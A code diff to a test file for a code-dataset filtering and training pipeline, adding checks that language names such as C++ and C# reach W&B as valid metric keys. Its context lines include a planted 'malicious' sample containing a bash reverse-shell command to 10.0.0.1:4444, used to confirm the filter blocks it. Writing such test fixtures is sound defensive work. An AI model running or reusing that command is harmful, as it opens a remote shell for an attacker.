@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import logging
 import math
+import re
 from pathlib import Path
 
 import psycopg
@@ -54,6 +55,7 @@ PLANTED = {
     "gpl": ("license", f"# SPDX-License-Identifier: GPL-3.0-or-later\n# This program is free software.\n{BODY}"),
     "malicious": ("malicious", f'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")\n{BODY}'),
 }
+OTHER_LANGUAGES = ("C++", "C#", "Jupyter Notebook")
 MIT_SAMPLE = f"# SPDX-License-Identifier: MIT\n# Copyright (c) 2024 Example\n{BODY}\nclass MitLicensedThing:\n    pass\n"
 
 
@@ -75,6 +77,12 @@ def trained_run(crawler_table, make_settings, tmp_path, caplog):
         duplicated = connection.execute("SELECT content FROM processed_files WHERE quality_score = 70 AND char_length(content) < 8000 ORDER BY id LIMIT 1").fetchone()[0]
     # The same file again, differing only in trailing whitespace: a duplicate after normalisation.
     insert_planted(crawler_table, [content for _, content in PLANTED.values()] + [MIT_SAMPLE, duplicated + "   \n\n"])
+    # Three clean files labelled as a crawler labels C++, C# and notebooks.
+    with psycopg.connect(crawler_table, autocommit=True) as connection:
+        for language, offset in zip(OTHER_LANGUAGES, range(3)):
+            connection.execute("UPDATE processed_files SET language = %s WHERE id = (SELECT id FROM processed_files"
+                               " WHERE quality_score >= 70 AND char_length(content) BETWEEN 200 AND 8000 AND repo_name <> 'planted'"
+                               " ORDER BY id OFFSET %s LIMIT 1)", (language, 10 + offset))
     # The production shape: accumulation 4, gradient checkpointing, an eval split; by epochs (no step budget),
     # so the planted rows at the end are in this run; a small max_grad_norm so that clipping really happens.
     settings = make_settings(crawler_table, extra=(
@@ -193,6 +201,21 @@ def test_filters_block_planted_samples_and_the_counts_reach_wandb(trained_run):
     assert state.last_run["blocked"] == {"secrets": 4, "license": 1, "malicious": 1, "duplicates": 1, "near_duplicates": 0}
     # The MIT-headed file and clean code passed: they are among the trained samples.
     assert data_row["data/total_samples"] == state.total_samples_trained + state.total_samples_held_out
+
+
+def test_a_language_reaches_wandb_under_a_name_wandb_can_sort_and_filter(trained_run):
+    # W&B sorts and filters only on letters, digits and underscores within a section: `data/language_c++`
+    # is a key that cannot be charted next to the others, and c++ and c# must not share one.
+    settings, run_file, run, _ = trained_run
+    [data_row] = [row for row in run.history if "data/blocked_total" in row]
+    for key in ("cpp", "csharp", "jupyter_notebook"):
+        assert data_row[f"data/language_{key}"] == 1, key
+        assert data_row[f"data/language_{key}_pass_rate"] == 100.0, key
+    assert data_row["data/language_python"] + 3 == data_row["data/total_samples"]
+    language_keys = [key for key in run.keys() if key.startswith(("data/language_", "data/blocked_", "holdout/"))]
+    assert len(language_keys) > 10
+    for key in language_keys:
+        assert re.fullmatch(r"[a-z]+/[_a-zA-Z][_a-zA-Z0-9]*", key), key
 
 
 def test_only_metrics_leave_the_machine(trained_run, tmp_path):
